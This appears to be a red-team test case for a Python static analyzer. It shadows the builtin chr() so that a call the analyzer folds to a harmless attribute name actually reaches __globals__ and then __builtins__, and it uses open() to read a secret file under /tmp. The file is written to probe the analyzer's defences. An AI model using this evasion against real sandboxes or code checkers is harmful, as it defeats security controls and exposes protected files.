# family: red team, round 16 (scopes: class-body global/nonlocal, builtins shadowed later, makers resolved where bound)
# Chain: folding.fold (and bindings.classify) take any call `chr(n)` / `str(s)` for the builtin, whatever
# the name is bound to in the tool. Here the tool defines its own chr(); getattr(helper, chr(110)) is folded
# to getattr(helper, "n") (a harmless constant name), but at run time chr() returns "__globals__".
def helper():
    return 1


def chr(n):
    return "".join(reversed("__slabolg__"))


g = getattr(helper, chr(110))
print(sorted(g.keys()))
b = g[chr(0).replace("globals", "builtins")]
print(b)
print(getattr(b, "open")("/tmp/r16/work/secret.txt").read())
